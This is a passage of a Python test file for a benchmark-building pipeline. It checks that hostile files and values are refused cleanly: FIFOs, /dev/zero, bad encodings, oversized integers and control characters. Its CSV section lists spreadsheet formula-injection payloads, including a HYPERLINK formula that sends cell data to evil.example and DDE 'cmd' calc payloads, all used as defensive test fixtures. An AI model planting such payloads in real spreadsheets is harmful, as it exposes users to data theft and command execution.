"""One hostile-input harness for every benchmark (issue 24, part 3): nothing a user can
put in an input ends in a traceback, a hang, a silently changed value or an empty
release. Tables, each case one test:

1. Hostile files x every input path of every registered benchmark. The inputs are found
   from the config types (pipelines/config.py input_fields: InputFile, ImageSource,
   InputPath), so an input added later is covered without touching this file. Each case
   runs `python -m pipelines <benchmark> build` in process: exit 2, one line naming the
   key and the path, before any work (no Beam run, no version folder).
2. Hostile values x every JSON input (JSON Lines lines and whole JSON documents). Each
   case writes a good line and the hostile one, then runs the stage that reads that
   input (the stage's DoFn, element by element, as Beam runs it): the hostile line is
   a reject with its reason, file and line (the good one passes), or a whole document
   is refused naming the file and what is wrong.
3. Files a line names (a FIFO, /dev/zero as an image) and numbers in crowd cells.

Builds with hostile values mixed in, one per benchmark, and a build that yields nothing:
tests/test_hostile_builds.py. The classes and where each is fixed: docs/reliability.md,
"Hostile inputs".
"""
from __future__ import annotations

import bz2
import contextlib
import gzip
import json
import os
import re
import subprocess
from dataclasses import dataclass
from typing import Callable, List, Optional

import pytest

from pipelines import build, cli, registry
from pipelines.config import ImageSource, InputFile, InputPath, input_fields
from schemas import reasons
from schemas.rejects import Reject
from transforms.core.errors import InputError
from transforms.core.stage import REJECTS
from transforms.io.lines import read_numbered_lines

BENCHMARKS = registry.names()


# --- 1. hostile files, every input path of every benchmark -------------------------------

def _fifo(folder: str) -> str:
    path = os.path.join(folder, "pipe.jsonl")
    os.mkfifo(path)                 # opening it would wait for a writer forever
    return path


def _gzip(folder: str) -> str:
    path = os.path.join(folder, "lines.jsonl.gz")
    with gzip.open(path, "wb") as f:
        f.write(b'{"a": 1}\n')
    return path


def _bzip2(folder: str) -> str:
    path = os.path.join(folder, "lines.jsonl")   # no telling extension: the first bytes say it
    with open(path, "wb") as f:
        f.write(bz2.compress(b'{"a": 1}\n'))
    return path


def _utf16(folder: str) -> str:
    path = os.path.join(folder, "lines.jsonl")
    with open(path, "wb") as f:
        f.write('{"a": "caf\u00e9"}\n'.encode("utf-16"))   # with its byte order mark
    return path


def _utf16_without_bom(folder: str) -> str:
    path = os.path.join(folder, "lines.jsonl")
    with open(path, "wb") as f:
        f.write('{"a": "caf\u00e9"}\n'.encode("utf-16-le"))   # passed preflight, failed at the end
    return path


def _symlink_loop(folder: str) -> str:
    path = os.path.join(folder, "loop.jsonl")
    os.symlink(path, path)            # was "no such file"
    return path


def _name_too_long(folder: str) -> str:
    return os.path.join(folder, "n" * 300 + ".jsonl")   # was "no such file"


def _empty(folder: str) -> str:
    path = os.path.join(folder, "empty.jsonl")
    with open(path, "wb") as f:
        f.write(b"\n  \n")
    return path


def _folder(folder: str) -> str:
    path = os.path.join(folder, "a-folder")
    os.mkdir(path)
    return path


def _touch(folder: str, name: str) -> str:
    path = os.path.join(folder, name)
    with open(path, "wb") as f:
        f.write(b"bytes")
    return path


def _plain(folder: str) -> str:
    path = os.path.join(folder, "plain.jsonl")
    with open(path, "w") as f:
        f.write('{"a": 1}\n')
    return path


@dataclass(frozen=True)
class HostileFile:
    """A file an input must refuse: how to make it, which path types it applies to, and
    what the one line must say."""
    name: str
    make: Callable[[str], str]
    kinds: tuple
    says: str
    second: Optional[Callable[[str], str]] = None   # a second path naming the same file (list keys only)


def _symlink(path: str) -> str:
    link = path + ".link"
    os.symlink(path, link)
    return link


FILE_CASES = (
    HostileFile("fifo", _fifo, (InputFile, ImageSource, InputPath), "is a FIFO (named pipe), not a regular file"),
    HostileFile("dev-zero", lambda _: "/dev/zero", (InputFile, ImageSource, InputPath),
                "is a character device, not a regular file"),
    HostileFile("folder", _folder, (InputFile,), "is a folder, not a regular file"),
    HostileFile("gzip", _gzip, (InputFile, ImageSource), "is gzip-compressed"),
    HostileFile("bzip2", _bzip2, (InputFile, ImageSource), "is bzip2-compressed"),
    HostileFile("utf16", _utf16, (InputFile, ImageSource), "is UTF-16 text"),
    HostileFile("utf16-without-bom", _utf16_without_bom, (InputFile, ImageSource),
                "holds NUL bytes (UTF-16 without a byte order mark?): inputs must be UTF-8 (iconv -f UTF-16LE"),
    HostileFile("symlink-loop", _symlink_loop, (InputFile, ImageSource, InputPath),
                "is a symlink loop (too many levels of symbolic links)"),
    HostileFile("name-too-long", _name_too_long, (InputFile, ImageSource, InputPath),
                "is a name the file system cannot hold: its longest part has 306 bytes"),
    HostileFile("empty", _empty, (InputFile, ImageSource), "is empty: nothing to build"),
    HostileFile("missing", lambda folder: os.path.join(folder, "no-such.jsonl"), (InputFile, ImageSource),
                "no such file"),
    HostileFile("twice", _plain, (InputFile,), "is listed twice", second=lambda path: path),
    HostileFile("twice-by-symlink", _plain, (InputFile,), "is named twice, by", second=_symlink),
    # an empty FG pool folder built its sets from the targets alone
    HostileFile("folder-without-images", _folder, (ImageSource,), "holds no .jpg/.jpeg/.png file: nothing to build"),
)


# Keys a config needs set for another key to be accepted at all (config validation runs
# before the input checks): a plain file or folder each, which the input checks pass.
COMPANIONS = {
    "imagecode": {"crowd.descriptions": "plain"},
    "vsr": {"inputs.coco": "[plain]"},
    "fg": {"inputs.captions": "plain", "inputs.images": "folder", "inputs.pool": "folder",
           "inputs.details": "plain"},
}


def _companions(benchmark: str, key: str, folder: str) -> List[str]:
    """The --set arguments of COMPANIONS for a build that tests `key`."""
    images = os.path.join(folder, "images")
    os.mkdir(images)
    _touch(images, "a.png")
    made = {"plain": _plain(folder), "folder": images}
    sets = []
    for other, what in COMPANIONS.get(benchmark, {}).items():
        if other != key:
            path = made[what.strip("[]")]
            sets += ["--set", f"{other}=[{path}]" if what.startswith("[") else f"{other}={path}"]
    return sets


def _file_cases():
    for benchmark in BENCHMARKS:
        for key, kind, is_list in input_fields(registry.load(benchmark).config_type):
            for case in FILE_CASES:
                if kind in case.kinds and (is_list or case.second is None):
                    yield pytest.param(benchmark, key, is_list, case, id=f"{benchmark}-{key}-{case.name}")


@pytest.mark.parametrize("benchmark, key, is_list, case", list(_file_cases()))
def test_a_hostile_file_stops_the_build_before_any_work_in_one_line(benchmark, key, is_list, case,
                                                                     tmp_path, capsys):
    (tmp_path / "in").mkdir()
    path = case.make(str(tmp_path / "in"))
    value = (f"[{path},{case.second(path)}]" if case.second else f"[{path}]" if is_list else path)
    out = tmp_path / "out"
    code = cli.run_main(lambda argv: build.build(benchmark, argv),
                        ["--config", "paper", "--set", f"{key}={value}",
                         *_companions(benchmark, key, str(tmp_path)), "--output", str(out),
                         "--version", "1.0.0", "--quiet"])
    errors = [line for line in capsys.readouterr().err.splitlines() if line.startswith("error:")]
    assert code == 2 and len(errors) == 1, errors
    assert errors[0].startswith(f"error: {key}: ") and path in errors[0] and case.says in errors[0], errors
    assert not out.exists() or not any(out.rglob("MANIFEST.json"))


# --- 2. hostile values, every JSON input --------------------------------------------------

COCO_NAME, COCO_LINK = "000000000001.jpg", "http://images.cocodataset.org/train2017/000000000001.jpg"


def _vsr_public_stage(path: str):
    from pipelines.vsr.annotations import _ParsePublic
    from pipelines.vsr.relations import RELATIONS
    return _ParsePublic(frozenset(RELATIONS), {})


def _stage(module: str, name: str, *args):
    """A factory of the stage (a StageFn) `module.name(*args)` that reads an input's lines."""
    def make(path: str):
        import importlib
        return getattr(importlib.import_module(module), name)(*args)
    return make


def _image_lines(path: str):
    """The stage that reads an image manifest's lines (paths relative to its folder)."""
    from transforms.image.collection import _ParseLine
    return _ParseLine(os.path.dirname(path))


@dataclass(frozen=True)
class LinesInput:
    """A JSON Lines input: the stage that reads its lines, made from the input's path
    (None: the crowd answer-file reader, transforms/crowd/answer_files.py), a good line (`good(folder)`; files it names
    are made there), a text field it publishes and the field a big integer goes in."""
    benchmark: str
    key: str
    stage: Optional[Callable[[str], object]]
    good: Callable[[str], dict]
    text: str
    number: str


def _answers(number="rank", **fields):
    return lambda folder: {"worker": "w1", "answer": "a dog on a bench", number: 3, **fields}


_FG_LINE = {"image_id": "COCO_val2014_000000000001", "caption_index": 0, "prompt": "with", "noun": "dog"}
_NLVR2_LINE = {"validation": {"w1": "True"}, "sentence": "Two dogs are on the left.",
               "left_url": "http://img/train/1/0/l.jpg", "writer": "w0", "label": "True",
               "right_url": "http://img/train/1/0/r.jpg", "synset": "dog", "query": "two dogs",
               "identifier": "train-1-0-0", "extra_validations": {}, "directory": 3}

LINES_INPUTS = (
    LinesInput("imagecode", "inputs.videos", _stage("transforms.video.manifest", "_ParseLine"),
               lambda d: {"path": _touch(d, "v.mp4"), "source": "msr-vtt", "video_id": "video1",
                          "split": "train"}, "video_id", "video_id"),
    LinesInput("imagecode", "crowd.descriptions", None, _answers("target_index", set_name="s1"), "answer", "target_index"),
    LinesInput("imagecode", "crowd.retrievals", None, _answers("guessed_index", set_name="s1"), "worker", "guessed_index"),
    LinesInput("vsr", "inputs.annotations", _vsr_public_stage,
               lambda d: {"image": COCO_NAME, "image_link": COCO_LINK, "caption": "The cat is under the couch.",
                          "label": 1, "relation": "under", "annotator_id": 3,
                          "vote_true_validator_id": [1, 2], "vote_false_validator_id": []},
               "caption", "annotator_id"),
    LinesInput("vsr", "inputs.captions", _stage("pipelines.vsr.annotations", "_ParseCaptionLine"),
               lambda d: {"pair_id": "pair-a", "relation": "under", "true_image": COCO_NAME, "annotator_id": 7},
               "pair_id", "annotator_id"),
    LinesInput("vsr", "inputs.votes", _stage("pipelines.vsr.annotations", "_ParseLabelLine", "votes", "validator_id"),
               lambda d: {"example_id": "e1", "validator_id": 3, "label": 1}, "example_id", "validator_id"),
    LinesInput("vsr", "inputs.extra_labels",
               _stage("pipelines.vsr.annotations", "_ParseLabelLine", "extra_labels", "annotator_id"),
               lambda d: {"example_id": "e1", "annotator_id": 4, "label": 0}, "example_id", "annotator_id"),
    LinesInput("bd2bb", "inputs.tuples", _stage("pipelines.bd2bb.inputs", "_ParseLine"),
               lambda d: {"id": 17, "image": "COCO_train2014_000000000001.jpg", "intention": "want to relax",
                          "action": "sit on the bench", "annotator": "w17"}, "intention", "id"),
    LinesInput("fg", "inputs.details", _stage("pipelines.fg.filetexts", "_ParseLine", "details", "detail"),
               lambda d: {**_FG_LINE, "detail": "a red collar"}, "detail", "caption_index"),
    LinesInput("fg", "inputs.merged", _stage("pipelines.fg.filetexts", "_ParseLine", "merge", "merged"),
               lambda d: {**_FG_LINE, "merged": "a dog with a red collar"}, "merged", "caption_index"),
    LinesInput("fg", "inputs.corrections", _stage("pipelines.fg.corrections", "_ParseCorrection"),
               lambda d: {"image_id": "COCO_val2014_000000000001", "caption_index": 1,
                          "model_text": "a dog", "human_text": "a brown dog"}, "human_text", "caption_index"),
    LinesInput("nlvr2", "inputs.public", _stage("pipelines.nlvr2.read_public", "ParsePublicLine"),
               lambda d: dict(_NLVR2_LINE), "sentence", "directory"),
    *(LinesInput("nlvr2", f"collection.inputs.{round_}", None, _answers(), "answer", "rank")
      for round_ in ("search_results", "pruning_answers", "interest_answers", "sentences",
                     "validations", "extra_validations")),
)


def _image_manifest(benchmark: str, key: str) -> LinesInput:
    """An image manifest line (ImageCoDe's static images, FG's targets and pool): one
    reader, transforms/image/collection.py."""
    return LinesInput(benchmark, key, _image_lines, lambda d: {"path": _touch(d, "a.png"), "image_id": "img1"},
                      "image_id", "image_id")


LINES_INPUTS += (
    _image_manifest("imagecode", "static.images"), _image_manifest("fg", "inputs.images"),
    _image_manifest("fg", "inputs.pool"),
    _image_manifest("nlvr2", "collection.search.local_similar.collection"))


@dataclass(frozen=True)
class HostileValue:
    """A hostile line made from a good record (its text and number fields), and what the
    reader must reject it as: a reason and a piece of the detail."""
    name: str
    line: Callable[[dict, str, str], bytes]
    reason: str
    says: str


def _dumps(record: dict) -> bytes:
    return json.dumps(record).encode()


VALUE_CASES = (
    # legal JSON that crashed every build: a lone UTF-16 surrogate in a published field
    HostileValue("surrogate", lambda r, t, n: _dumps({**r, t: f"{r.get(t, '')} \ud83d"}),
                 reasons.BAD_ENCODING, "field '{t}' holds a lone UTF-16 surrogate"),
    HostileValue("surrogate-in-key", lambda r, t, n: _dumps({**r, "\udc00": "x"}),
                 reasons.BAD_ENCODING, "holds a lone UTF-16 surrogate"),
    # an id beyond what an int64 column or feature holds crashed the TFRecord writer
    HostileValue("int-beyond-64-bits", lambda r, t, n: _dumps({**r, n: 2 ** 64}),
                 reasons.BAD_FIELD, "field '{n}': 18446744073709551616 is beyond the 64-bit"),
    HostileValue("negative-int-beyond-64-bits", lambda r, t, n: _dumps({**r, n: -2 ** 63 - 1}),
                 reasons.BAD_FIELD, "field '{n}': -9223372036854775809 is beyond the 64-bit"),
    # json keeps the last of two values without a word
    HostileValue("key-twice", lambda r, t, n: _dumps({**r, t: "first"})[:-1] + f', "{t}": "second"}}'.encode(),
                 reasons.BAD_JSON, "key '{t}' appears twice"),
    HostileValue("nan", lambda r, t, n: _dumps({**r, "score": float("nan")}),
                 reasons.BAD_FIELD, "NaN is not a finite number"),
    HostileValue("1e999", lambda r, t, n: _dumps(r)[:-1] + b', "score": 1e999}',
                 reasons.BAD_FIELD, "1e999 is not a finite number"),
    HostileValue("latin-1", lambda r, t, n: json.dumps({**r, t: "caf\u00e9"}, ensure_ascii=False).encode("latin-1"),
                 reasons.BAD_ENCODING, "byte 0xe9 at column"),
    HostileValue("not-json", lambda r, t, n: b"{not json", reasons.BAD_JSON, "not JSON"),
    HostileValue("json-array", lambda r, t, n: json.dumps([r]).encode(), reasons.BAD_JSON,
                 "a line must be a JSON object"),
    HostileValue("nested-too-deep", lambda r, t, n: b"[" * 100_000 + b"]" * 100_000, reasons.BAD_JSON,
                 "nested too deeply"),
    HostileValue("int-of-5000-digits", lambda r, t, n: b'{"x": 1' + b"0" * 5000 + b"}", reasons.BAD_JSON,
                 "not JSON"),
    # legal JSON escapes of control characters, published as they came (issue 35)
    HostileValue("nul", lambda r, t, n: _dumps({**r, t: f"{r.get(t, '')}\x00 more"}),
                 reasons.CONTROL_CHARACTER, "field '{t}' holds the control character U+0000"),
    HostileValue("escape-character", lambda r, t, n: _dumps({**r, t: f"\x1b[2J{r.get(t, '')}"}),
                 reasons.CONTROL_CHARACTER, "field '{t}' holds the control character U+001B at character 1"),
    HostileValue("c1-control", lambda r, t, n: _dumps({**r, "note": "x\x85"}),
                 reasons.CONTROL_CHARACTER, "field 'note' holds the control character U+0085"),
    # a second file's byte order mark after `cat a.jsonl b.jsonl` (was only "not JSON")
    HostileValue("bom-mid-file", lambda r, t, n: b"\xef\xbb\xbf" + _dumps(r), reasons.BAD_ENCODING,
                 "a byte order mark (U+FEFF) at column 1: only a file's first bytes may hold one"),
    # issue 45: NLVR2 accepted a sentence of 100,000 characters (free_text.MAX_TEXT_CHARS)
    HostileValue("text-of-100000-characters", lambda r, t, n: _dumps({**r, t: "a dog " * 16_666 + "abcd"}),
                 reasons.TOO_LONG, "field '{t}' holds 100,000 characters, more than the 16,384 a text may hold"),
)


def _read(inp: LinesInput, path: str):
    """(lines passed, [(file, line, reason, detail)] rejected) by the input's reader."""
    if inp.stage is None:   # a crowd answer file
        from transforms.crowd.answer_files import parse_file
        with open(path, "rb") as stream:
            rows = list(parse_file(path, stream, "jsonl"))
        return ([r for r in rows if r.error is None],
                [(r.path, r.line, *r.error) for r in rows if r.error is not None])
    stage = inp.stage(path)
    if hasattr(stage, "setup"):
        stage.setup()
    passed, rejected = [], []
    for line in read_numbered_lines(path):
        for out in stage.process(line):
            value = getattr(out, "value", out)
            if getattr(out, "tag", None) == REJECTS:
                rejected.append((value.file, value.line, value.reason, value.detail))
            elif not hasattr(out, "tag"):
                passed.append(value)
    return passed, rejected


@pytest.mark.parametrize("inp, case", [pytest.param(i, c, id=f"{i.benchmark}-{i.key}-{c.name}")
                                       for i in LINES_INPUTS for c in VALUE_CASES])
def test_a_hostile_value_is_a_reject_naming_its_file_and_line(inp, case, tmp_path):
    good = inp.good(str(tmp_path))
    path = tmp_path / "input.jsonl"
    path.write_bytes(_dumps(good) + b"\n" + case.line(good, inp.text, inp.number) + b"\n")
    passed, rejected = _read(inp, str(path))
    assert len(passed) == 1, rejected                                   # the good line goes on
    assert len(rejected) == 1, rejected
    file, line, reason, detail = rejected[0]
    assert (file, line, reason) == (str(path), 2, case.reason), rejected
    assert case.says.format(t=inp.text, n=inp.number) in detail, detail
    assert "\ud83d" not in detail and "\udc00" not in detail            # a detail is published too


def test_every_json_lines_input_of_every_benchmark_is_in_the_table():
    """A JSON Lines input added later must be added to LINES_INPUTS (the whole-document
    inputs are the three of DOCUMENT_INPUTS; CoNLL-U, CSV and word lists hold no JSON)."""
    documents = {("vsr", "inputs.coco"), ("bd2bb", "inputs.captions"), ("fg", "inputs.captions")}
    not_json = {("bd2bb", "inputs.parses"), ("bd2bb", "clusters.review"), ("bd2bb", "filters.wordlist")}
    declared = {(b, key) for b in BENCHMARKS for key, kind, _ in input_fields(registry.load(b).config_type)
                if kind is not InputPath}
    assert declared - documents - not_json == {(i.benchmark, i.key) for i in LINES_INPUTS}


# Whole JSON documents: COCO instances are streamed (a bad entry is a reject naming the
# file and the entry; a file that is not JSON is dropped whole as malformed_coco); a
# captions document is read whole before any work (InputError naming the file).

_COCO_IMAGE = {"id": 2, "file_name": "000000000002.jpg",
               "coco_url": "http://images.cocodataset.org/train2017/000000000002.jpg", "width": 640}


def _coco(entry: bytes) -> bytes:
    good = json.dumps({"id": 1, "file_name": COCO_NAME, "coco_url": COCO_LINK, "width": 640})
    return b'{"images": [' + good.encode() + b", " + entry + b'], "annotations": []}'


def _bd2bb_captions(entry: bytes) -> bytes:
    good = json.dumps({"image_id": 1, "caption": "A dog on a bench."})
    return b'{"annotations": [' + good.encode() + b", " + entry + b"]}"


def _fg_captions(entry: bytes) -> bytes:
    good = json.dumps({"COCO_val2014_000000000001": ["a dog", "a cat", "a cow", "a pig", "a hen"]})
    return good[:-1].encode() + b', "COCO_val2014_000000000002": ' + entry + b"}"


_FIVE = ["a dog", "a cat", "a cow", "a pig", "a hen"]

# (input, case, the document, what a reader must say about it: a reject of the stage
# (level, reason, detail) or the InputError's text)
DOCUMENT_CASES = [
    ("vsr-inputs.coco", "surrogate", _coco(_dumps({**_COCO_IMAGE, "coco_url": "http://x/\ud83d"})),
     ("image", reasons.BAD_COCO_RECORD, "field 'coco_url' holds a lone UTF-16 surrogate")),
    ("vsr-inputs.coco", "int-beyond-64-bits", _coco(_dumps({**_COCO_IMAGE, "id": 2 ** 64})),
     ("image", reasons.BAD_COCO_RECORD, "field 'id': 18446744073709551616 is beyond the 64-bit")),
    ("vsr-inputs.coco", "key-twice", _coco(_dumps(_COCO_IMAGE)[:-1] + b', "id": 3}'),
     ("image", reasons.BAD_COCO_RECORD, "key 'id' appears twice")),
    ("vsr-inputs.coco", "nan", _coco(_dumps({**_COCO_IMAGE, "width": float("nan")})),
     ("image", reasons.BAD_COCO_RECORD, "not a finite number: width")),
    ("vsr-inputs.coco", "top-level-key-twice", _coco(_dumps(_COCO_IMAGE))[:-1] + b', "images": []}',
     ("file", reasons.MALFORMED_COCO, "the top-level key 'images' appears twice")),
    ("vsr-inputs.coco", "latin-1", _coco(_dumps(_COCO_IMAGE).replace(b"train2017", b"caf\xe9")),
     ("file", reasons.MALFORMED_COCO, "not UTF-8: byte 0xe9")),
    ("vsr-inputs.coco", "not-json", b'{"images": [{"id": 1,', ("file", reasons.MALFORMED_COCO, "truncated")),
    # a sample publishes both: an example labelled on one picture would link to another
    ("vsr-inputs.coco", "coco-url-names-another-file",
     _coco(_dumps({**_COCO_IMAGE, "coco_url": "http://images.cocodataset.org/train2017/000000000003.jpg"})),
     ("image", reasons.BAD_COCO_RECORD, "coco_url 'http://images.cocodataset.org/train2017/000000000003.jpg' "
                                        "names another file than file_name '000000000002.jpg'")),
    ("vsr-inputs.coco", "coco-url-names-another-id",     # the first 2014 release's links
     _coco(_dumps({**_COCO_IMAGE, "coco_url": "http://mscoco.org/images/3"})),
     ("image", reasons.BAD_COCO_RECORD, "coco_url 'http://mscoco.org/images/3' names image 3, not this entry's id 2")),
    ("bd2bb-inputs.captions", "surrogate", _bd2bb_captions(_dumps({"image_id": 2, "caption": "\ud83d"})),
     "field 'annotations[1].caption' holds a lone UTF-16 surrogate"),
    ("bd2bb-inputs.captions", "int-beyond-64-bits", _bd2bb_captions(_dumps({"image_id": 2 ** 64, "caption": "a"})),
     "field 'annotations[1].image_id': 18446744073709551616 is beyond the 64-bit"),
    ("bd2bb-inputs.captions", "key-twice", _bd2bb_captions(b'{"image_id": 2, "caption": "a", "caption": "b"}'),
     "key 'caption' appears twice"),
    ("bd2bb-inputs.captions", "nan", _bd2bb_captions(b'{"image_id": NaN, "caption": "a"}'),
     "NaN is not a finite number"),
    ("bd2bb-inputs.captions", "latin-1", _bd2bb_captions(b'{"image_id": 2, "caption": "caf\xe9"}'),
     "byte 0xe9 at offset"),
    ("bd2bb-inputs.captions", "not-json", b'{"annotations": [', "not JSON"),
    ("fg-inputs.captions", "surrogate", _fg_captions(_dumps(["\ud83d"] + _FIVE[1:])),
     "field 'COCO_val2014_000000000002[0]' holds a lone UTF-16 surrogate"),
    ("fg-inputs.captions", "int-beyond-64-bits", _fg_captions(_dumps([2 ** 64] + _FIVE[1:])),
     "field 'COCO_val2014_000000000002[0]': 18446744073709551616 is beyond the 64-bit"),
    ("fg-inputs.captions", "key-twice", _fg_captions(_dumps(_FIVE))[:-1] + b', "COCO_val2014_000000000002": []}',
     "key 'COCO_val2014_000000000002' appears twice"),
    ("fg-inputs.captions", "nan", _fg_captions(b'[NaN, "b", "c", "d", "e"]'), "NaN is not a finite number"),
    ("fg-inputs.captions", "latin-1", _fg_captions('["caf\u00e9", "b", "c", "d", "e"]'.encode("latin-1")),
     "byte 0xe9 at offset"),
    ("fg-inputs.captions", "not-json", b'{"COCO_val2014_000000000001": [', "not JSON"),
    ("vsr-inputs.coco", "nul", _coco(_dumps({**_COCO_IMAGE, "file_name": "000000000002.jpg\x00"})),
     ("image", reasons.BAD_COCO_RECORD, "field 'file_name' holds the control character U+0000")),
    ("bd2bb-inputs.captions", "nul", _bd2bb_captions(_dumps({"image_id": 2, "caption": "a dog\x00"})),
     "field 'annotations[1].caption' holds the control character U+0000"),
    ("fg-inputs.captions", "nul", _fg_captions(_dumps(["a dog\x00"] + _FIVE[1:])),
     "field 'COCO_val2014_000000000002[0]' holds the control character U+0000"),
    # a trailing comma in a document of many lines: json gave a column but no line
    ("fg-inputs.captions", "trailing-comma", b'{\n"COCO_val2014_000000000001": ' + _dumps(_FIVE) + b",\n}\n",
     "not JSON: Expecting property name enclosed in double quotes at line 3 column 1"),
    ("bd2bb-inputs.captions", "trailing-comma",
     b'{"annotations": [\n' + _dumps({"image_id": 1, "caption": "A dog."}) + b",\n]}",
     "not JSON: Expecting value at line 3 column 1"),
    ("fg-inputs.captions", "bom-mid-file", _fg_captions(b"\xef\xbb\xbf" + _dumps(_FIVE)),
     "a byte order mark (U+FEFF) at column 107: only a file's first bytes may hold one"),
]


def _read_document(name: str, path: str):
    """The rejects [(level, reason, item, detail)] of the COCO stage, or the InputError's text."""
    if name == "vsr-inputs.coco":
        from transforms.coco.instances import _StreamCoco
        return [(r.level, r.reason, r.item_id, r.detail) for r in
                (getattr(out, "value", None) for out in _StreamCoco().process(path))
                if isinstance(r, Reject)]
    from pipelines.bd2bb.inputs import load_captions
    from pipelines.fg.captions import read_captions
    with pytest.raises(InputError) as error:
        (load_captions if name.startswith("bd2bb") else read_captions)(path)
    return str(error.value)


@pytest.mark.parametrize("name, case, document, expected",
                         [pytest.param(*c, id=f"{c[0]}-{c[1]}") for c in DOCUMENT_CASES])
def test_a_hostile_value_in_a_json_document_is_named_never_a_crash(name, case, document, expected, tmp_path):
    path = tmp_path / "document.json"
    path.write_bytes(document)
    found = _read_document(name, str(path))
    if isinstance(expected, str):    # a whole document read before any work: one error
        assert str(path) in found and expected in found and "\ud83d" not in found, found
        return
    level, reason, says = expected
    assert len(found) == 1, found
    assert found[0][:2] == (level, reason) and says in found[0][3], found
    if level == "image":             # the entry that breaks the rules, by its place in the file
        assert found[0][2] == f"{path}#image1"


# --- files a line names -----------------------------------------------------------------

@pytest.mark.parametrize("kind", ["a character device", "a FIFO (named pipe)"])
def test_an_image_a_line_names_is_read_only_when_it_is_a_regular_file(kind, tmp_path, monkeypatch):
    """Issue 24: an NLVR2 search-result seed of /dev/zero was read until the kernel killed
    the build (a FIFO would hang it). Every image a line names is read through
    transforms/io/files.py open_regular_file; nothing here may even open the path."""
    from apache_beam.io.filesystems import FileSystems

    from pipelines.nlvr2.collection.config import PruningConfig
    from pipelines.nlvr2.collection.search import Drop, Image, ImageSet, prune_query_sets
    from transforms.image.decode import ImageProblem, read_image
    path = "/dev/zero" if kind == "a character device" else _fifo(str(tmp_path))
    real_open = FileSystems.open

    def never_this_one(name, *args, **kwargs):
        assert name != path, f"{path} was opened"
        return real_open(name, *args, **kwargs)
    monkeypatch.setattr(FileSystems, "open", never_this_one)
    with pytest.raises(ImageProblem, match=re.escape(f"{path} is {kind}, not a regular file")):
        read_image(path)
    seed_only = ImageSet("two dogs", 0, "dog", (Image(0, "http://img/seed.jpg", path),))
    drops = [out for out in prune_query_sets([seed_only], PruningConfig()) if isinstance(out, Drop)]
    assert drops[0] == Drop(reasons.UNREADABLE_IMAGE, "two dogs#0/0",
                            f"http://img/seed.jpg: {path} is {kind}, not a regular file", "image")


# --- numbers in crowd cells ----------------------------------------------------------------

@pytest.mark.parametrize("cell", ["\u00b2", "\u0663", "9" * 5000, str(2 ** 63), "-" + str(2 ** 63 + 1), "1.5", "", "x"])
def test_a_number_cell_that_is_no_int64_is_a_reject_not_a_crash(cell):
    """A crowd answer's index or rank as CSV text: "²" and "٣" pass str.isdigit() and
    crash int(); 5,000 digits crash int() too (Python refuses over 4,300); beyond 64 bits
    no column holds it. Each is a bad row now (transforms/crowd/answer_rows.py whole_number)."""
    from pipelines.imagecode.crowd.rounds import _index
    from pipelines.nlvr2.collection.rounds import pruning_check
    from pipelines.nlvr2.collection.search import search_result_check
    from transforms.crowd.answer_rows import RowProblem, whole_number
    assert whole_number(cell) is None
    assert _index({"target_index": cell}, "target_index", 10)[1][0] == reasons.BAD_FIELD
    assert isinstance(pruning_check({"set": "q#0", "image": cell, "verdict": "keep"}, {"q#0": [0, 1]}), RowProblem)
    check = search_result_check("/tmp", 16)
    problem = check({"query": "two dogs", "rank": cell, "seed": "a.jpg", "similar": []}, {"two dogs": "dog"})
    assert problem == RowProblem(reasons.BAD_FIELD, f"rank {cell[:40]!r}: a whole number >= 0")


def test_whole_numbers_a_release_holds_are_read():
    from transforms.crowd.answer_rows import whole_number
    assert [whole_number(v) for v in ("7", " 7 ", "-3", str(2 ** 63 - 1), 12, -(2 ** 63))] == \
        [7, 7, -3, 2 ** 63 - 1, 12, -(2 ** 63)]
    assert whole_number(True) is None and whole_number(2 ** 63) is None and whole_number(1.0) is None


def test_a_vote_list_held_as_a_string_is_decoded_under_the_same_rules():
    """VSR v2 holds vote lists as strings ("[1, 2]") decoded a second time: a lone
    surrogate or deep nesting inside one was a crash (RecursionError, or the writer)."""
    from pipelines.vsr.annotations import parse_public_line
    from pipelines.vsr.captions import CaptionParser
    from pipelines.vsr.relations import RELATIONS
    record = {"image": COCO_NAME, "image_link": COCO_LINK, "caption": "The cat is under the couch.",
              "label": 1, "relation": "under", "annotator_id": 3,
              "vote_true_validator_id": "[1, 2]", "vote_false_validator_id": "[]"}
    parse = lambda r: parse_public_line(json.dumps(r), CaptionParser(frozenset(RELATIONS)), frozenset(RELATIONS))  # noqa: E731
    assert parse(record)[1:] == (("1", "2"), ())
    assert parse({**record, "vote_true_validator_id": '[1, "\\ud83d"]'}) == (
        reasons.BAD_FIELD, "vote lists: field '[1]' holds a lone UTF-16 surrogate (\\ud83d): not text")
    assert parse({**record, "vote_false_validator_id": "[" * 5000 + "]" * 5000}) == (
        reasons.BAD_FIELD, "vote lists: not JSON: nested too deeply")


# --- 4. free text that a spreadsheet would run, and control characters in CSV cells (issue 35)
#
# Every CSV a release holds is written by transforms/io/csv_out.py. Where its text may
# be changed, a cell that begins like a formula gets a leading quote (ImageCoDe's crowd
# task files, BD2BB's review sheet); where the original loaders read it verbatim (BD2BB's
# compat/*.csv) such text is rejected at ingest (formula_text). A control character in a
# crowd answer cell is a reject wherever the row comes from (JSON inputs: VALUE_CASES).

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            # issue 45: BD2BB published these; a spreadsheet reads each as its ASCII form
            "\uff1dSUM(1)", "\u200b=SUM(1)", "\u2060+1+1", "\ufeff@SUM(1)", "\u00ad-1+1", "\ufe62cmd"]
FORMULA_IDS = ["equals", "plus", "at", "minus", "tab", "cr", "fullwidth-equals", "zero-width-space",
               "word-joiner", "byte-order-mark", "soft-hyphen", "small-plus"]


def _formula_detail(field: str, text: str) -> str:
    """What `formula_text` says of `text` (its start as written, and as read when the two
    differ)."""
    import unicodedata
    hidden = len(text) - len(text.lstrip("\u200b\u2060\ufeff\u00ad"))
    written, read = text[:hidden + 1], unicodedata.normalize("NFKC", text[hidden])
    reads = "" if written == read else f", which a spreadsheet reads as {read!r}"
    return (f"field '{field}' begins with {written!r}{reads}: a spreadsheet opening the CSV it is "
            "published in would run it as a formula")


def _retrieve_task_csv(text: str) -> List[str]:
    """The cells of ImageCoDe's crowd/retrieve_tasks.csv row for a description `text`,
    and the JSON Lines row beside it, as WriteTaskFiles writes them."""
    import csv
    import io

    from pipelines.imagecode.crowd.records import RETRIEVE_TASK_COLUMNS
    from transforms.crowd.task_files import task_lines
    task = {c: f"{c}-value" for c in RETRIEVE_TASK_COLUMNS}
